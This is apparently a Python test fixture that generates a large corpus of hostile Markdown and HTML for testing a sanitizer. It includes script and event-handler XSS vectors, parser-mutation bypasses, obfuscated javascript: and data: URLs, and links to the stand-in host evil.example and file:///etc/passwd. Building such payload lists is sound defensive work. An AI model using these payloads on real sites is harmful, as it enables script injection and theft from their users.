"""Hostile Markdown by the hundred: every vector in every place that Markdown has for it.

What runs says so by ``alert``; what is fetched or led to is on ``evil.example``, a host that does not exist.
"""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product

from tests.site.payloads import PAYLOADS

RUN = "alert(1)"
EVIL = "//evil.example"
SMUGGLED = f"<img src=x onerror={RUN}>"

ELEMENTS = (
    f"<script>{RUN}</script>",
    f"<script src={EVIL}/x.js></script>",
    f"<script type=module>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f'<img src=x alt="`" onerror="{RUN}" title="`">',
    f"<svg onload={RUN}></svg>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><set attributeName=onmouseover to={RUN} /><a><text y=9>x</text></a></svg>",
    f"<svg><a><animate attributeName=href to=javascript:{RUN} /><text y=9>x</text></a></svg>",
    f"<svg><foreignObject>{SMUGGLED}</foreignObject></svg>",
    f"<svg><image href={EVIL}/x.svg /><use href={EVIL}/y.svg#z /></svg>",
    f"<math><maction actiontype=statusline xlink:href=javascript:{RUN}>x</maction></math>",
    f"<math><annotation-xml encoding=text/html>{SMUGGLED}</annotation-xml></math>",
    f"<details open ontoggle={RUN}><summary>x</summary></details>",
    f"<summary onfocus={RUN} tabindex=0>x</summary>",
    f"<a href=# onclick={RUN} onmouseover={RUN}>x</a>",
    f"<b onpointerover={RUN} onmouseenter={RUN}>x</b>",
    f"<p tabindex=0 onfocus={RUN} autofocus>x</p>",
    f"<div contenteditable onbeforeinput={RUN} onfocus={RUN}>x</div>",
    f"<p style='animation:x 1s' onanimationstart={RUN}>x</p><style>@keyframes x{{}}</style>",
    f"<p style='background:url({EVIL}/x)'>x</p>",
    f"<style>@import '{EVIL}/x.css';p{{background:url({EVIL}/y)}}</style><p>x</p>",
    f"<link rel=stylesheet href={EVIL}/x.css><link rel=prefetch href={EVIL}/y>",
    f"<iframe srcdoc='<script>{RUN}</script>'></iframe>",
    f"<iframe src=javascript:{RUN}></iframe>",
    f"<iframe src={EVIL}/></iframe>",
    f"<object data=javascript:{RUN}></object><embed src={EVIL}/x.swf>",
    f"<form action=javascript:{RUN}><input type=submit value=x></form>",
    f"<form id=f></form><button form=f formaction=javascript:{RUN}>x</button>",
    f"<input onfocus={RUN} autofocus><select onfocus={RUN} autofocus><option>x</select>",
    f"<video src={EVIL}/x onerror={RUN}><source onerror={RUN} src={EVIL}/y></video>",
    f"<audio autoplay onerror={RUN} src=x></audio>",
    f"<picture><source srcset='{EVIL}/x 1x'><img src=x onerror={RUN}></picture>",
    f"<img srcset='{EVIL}/x 1x' src=x.png sizes=1px>",
    f"<body background={EVIL}/x onload={RUN} onpageshow={RUN}>",
    f"<table background={EVIL}/x><tr><td background={EVIL}/y onmouseover={RUN}>x</table>",
    f"<base href={EVIL}/><a href=x>x</a>",
    f"<meta http-equiv=refresh content='9;url={EVIL}/'>",
    f"<template shadowrootmode=open>{SMUGGLED}</template>",
    f"<dialog open onclose={RUN}><form method=dialog><button>x</button></form></dialog>",
    f"<marquee onstart={RUN}>x</marquee>",
    "<a id=location name=body>x</a><img name=cookie><form name=getElementById></form>",
    "<a id=x name=x href=https://ok.example>x</a><a id=x name=y>y</a>",
    f"<x-y onclick={RUN} is=z>x</x-y>",
    f"<div popover id=p onbeforetoggle={RUN}>x</div><button popovertarget=p>x</button>",
)
"""Elements that run something, fetch something or take the place of something."""

MUTANTS = tuple(
    text.replace("SMUGGLED", SMUGGLED)
    for text in (
        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;SMUGGLED">',
        '<svg><desc><p title="</desc></svg>SMUGGLED">',
        '<svg><title><style><a id="</style></title>SMUGGLED">',
        "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style>SMUGGLED'>",
        "<math><mi><p><mglyph><style></math>SMUGGLED</style>",
        "<noscript><style></noscript>SMUGGLED",
        '<noembed><a title="</noembed>SMUGGLED">',
        '<noframes><a title="</noframes>SMUGGLED">',
        '<iframe><a title="</iframe>SMUGGLED">',
        '<xmp><b title="</xmp>SMUGGLED">',
        '<title><b title="</title>SMUGGLED">',
        '<textarea><b title="</textarea>SMUGGLED">',
        '<style><b title="</style>SMUGGLED">',
        '<script><b title="</script>SMUGGLED">',
        "<listing>&lt;img onerror=alert(1) src=x&gt;</listing>",
        "<!--><script>alert(1)</script>-->",
        "<!---><script>alert(1)</script>-->",
        "<!-- --!>SMUGGLED -->",
        "<!-- x --\u2028> SMUGGLED -->",
        "<![CDATA[ ]]>SMUGGLED",
        "<?x ?>SMUGGLED",
        "<!x>SMUGGLED",
        "</x y='>SMUGGLED'>SMUGGLED",
        "<b title='x\n\nSMUGGLED'>",
        '<a title="x\n\n"SMUGGLED>',
        "<p/x/SMUGGLED",
        "<\u0000img src=x onerror=alert(1)>",
        "<im\u0000g src=x onerror=alert(1)>",
        "<img src=x onerror\u0000=alert(1)>",
        "<img\u000csrc=x\u000conerror=alert(1)>",
        "<img src=x onerror&equals;alert(1)>",
        "&lt;img src=x onerror=alert(1)&gt;SMUGGLED",
        "<\uff49mg src=x onerror=alert(1)>\uff1cimg src=x onerror=alert(1)\uff1e",
        "<img src=x oner\u017for=alert(1)><\u017fcript>alert(1)</\u017fcript>",
        "<table><td><svg><p><table><style><a title='</style>SMUGGLED'></table>",
        "<select><svg><style><b title='</style>SMUGGLED'></select>",
        "<a><table><a>SMUGGLED</table></a>",
        "<math><annotation-xml encoding='text/html'><style><b id='</style>SMUGGLED'></math>",
        "<svg></p><style><!--</style>--></style>SMUGGLED",
        "<b " + "x " * 600 + "onmouseover=alert(1)>x</b>",
        "<div>" * 60 + "SMUGGLED" + "</div>" * 60,
    )
)
"""Texts that one parser reads as harmless and another does not."""

ADDRESSES = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"\u0001javascript:{RUN}",
    f"java\tscript:{RUN}",
    f"java&#9;script:{RUN}",
    f"java&#10;script:{RUN}",
    f"javascript&#0;:{RUN}",
    f"javascript&#x0000003A{RUN}",
    f"&#106&#97&#118&#97&#115cript:{RUN}",
    f"javascript://ok.example/%0a{RUN}",
    f"javascript:https://ok.example/;{RUN}",
    f"%6aavascript:{RUN}",
    f"jav\u00adascript:{RUN}",
    f"\ufeffjavascript:{RUN}",
    f"\u2028javascript:{RUN}",
    f"view-source:javascript:{RUN}",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg/onload=alert(1)>",
    "blob:https://evil.example/1",
    "filesystem:https://evil.example/x",
    "file:///etc/passwd",
    "ms-word:ofe|u|https://evil.example/x",
    "intent://evil.example#Intent;scheme=http;end",
    "ftp://evil.example/x",
    f"{EVIL}/x",
    "\\\\evil.example\\x",
    "/\\evil.example/x",
    "https:\\\\evil.example\\x",
    "http://evil.example/x.png",
    "https://raw.githubusercontent.com@evil.example/x.png",
)
"""Addresses that no link of another's text may have, or no image."""

FORMS = (
    "[x]({})",
    "[x](<{}>)",
    '[x]({} "title")',
    "![x]({})",
    "[![x]({})]({})",
    "[x][r]\n\n[r]: {}",
    "![x][r]\n\n[r]: <{}>",
    "<{}>",
    '<a href="{}">x</a>',
    "<a href='{}' target=_top>x</a>",
    '<img src="{}">',
    '<img src="x.png" longdesc="{}" usemap="{}">',
    '<blockquote cite="{}">x</blockquote>',
    '<svg><a xlink:href="{}"><text y=9>x</text></a></svg>',
    "[^1]\n\n[^1]: [x]({})",
)
"""How Markdown is given an address."""

PLACES = (
    "{}",
    "Words {} and words.",
    "- {}",
    "> {}",
    "| a |\n|---|\n| {} |",
    "# {}",
    "*{}*",
    "[{}](https://ok.example)",
    "x[^1]\n\n[^1]: {}",
    "> [!NOTE]\n> {}",
    "<div>\n\n{}\n\n</div>",
    "<details><summary>{}</summary></details>",
    "`a` <!-- x --> {}",
    "- [ ] {}",
)
"""Where in a text something stands."""

WORDS = (
    f'x" onmouseover="{RUN}',
    f"x' onmouseover='{RUN}",
    f"x` onmouseover=`{RUN}",
    f"x>{SMUGGLED}",
    f'x">{SMUGGLED}',
    f"x&quot;&gt;{SMUGGLED}",
    f'x\\">{SMUGGLED}',
    f"--><script>{RUN}</script>",
)
"""Words that try to get out of where they are written."""

HOLDERS = (
    "![{}](x.png)",
    "[x](https://ok.example '{}')",
    '[x](https://ok.example "{}")',
    "```{}\nx\n```",
    "~~~ {}\nx\n~~~",
    "<!-- {} -->",
    "[^{0}]: x\n\n[^{0}]",
    "## {}",
    "`{}`",
    "https://ok.example/{}",
    "<https://ok.example/{}>",
    "> [!NOTE] {}\n> x",
)
"""Where words stand that end up in an attribute, or as text."""


def payloads() -> tuple[str, ...]:
    """All of them, each once, in an order that does not change."""
    return tuple(dict.fromkeys((*PAYLOADS, *_made())))


def _made() -> Iterator[str]:
    yield from MUTANTS
    for place, vector in product(PLACES, (*ELEMENTS, *MUTANTS[:12])):
        yield place.replace("{}", vector)
    for form, address in product(FORMS, ADDRESSES):
        yield form.replace("{}", address)
    for holder, words in product(HOLDERS, WORDS):
        yield holder.replace("{}", words).replace("{0}", words)
